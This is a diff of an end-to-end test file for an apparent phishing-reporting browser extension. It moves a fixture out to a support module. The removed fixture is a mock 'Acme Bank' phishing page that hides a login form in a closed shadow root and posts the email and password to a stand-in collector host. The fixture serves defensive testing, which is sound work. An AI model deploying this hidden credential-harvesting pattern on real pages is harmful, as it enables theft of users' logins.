@@ -3,6 +3,7 @@ import { test, expect, openWebPage } from './fixtures.ts';
 import { clickButton, fill, find, textOf } from './dom.ts';
 import { clickMenu, connect, openPopupOver, openReportDetails } from './steps.ts';
 import { incidentFor, reportRequests } from '../e2e/reporting-helpers.ts';
+import { SHADOW_LOGIN } from '../support/phishing-page.ts';
 
 test('a page reported from the popup arrives with a stamped screenshot, page evidence and a record whose hashes match', async ({ extension, sandbox, web }) => {
   await connect(extension, sandbox);
@@ -38,17 +39,6 @@ test('a page reported from the popup arrives with a stamped screenshot, page evi
   expect(record!.text).toMatch(/Browser: Firefox 1\d\d/);
   expect(createHash('sha256').update(source!.text!).digest('hex')).toBe(source!.sha256);
 });
-
-/** A login form posting elsewhere, in a closed shadow root inside an open one; the page keeps no handle on the closed root. */
-const SHADOW_LOGIN = `<!doctype html><html><head><meta charset="utf-8"><title>Shadow login</title></head><body>
-<h1>Sign in</h1><app-shell></app-shell>
-<script>
-  const outer = document.querySelector('app-shell').attachShadow({ mode: 'open' });
-  outer.innerHTML = '<header>Acme Bank</header><login-box></login-box>';
-  outer.querySelector('login-box').attachShadow({ mode: 'closed' }).innerHTML =
-    '<form action="https://collect.shadow-kit.example/post.php" method="post">' +
-    '<input name="user" type="email"><input name="secret" type="password"><button>Sign in</button></form>';
-</script></body></html>`;
 
 test('a login form in a closed shadow root is in the page source and details a menu report sends (Firefox reads it with openOrClosedShadowRoot)', async ({ extension, sandbox, web }) => {
   const options = await connect(extension, sandbox);
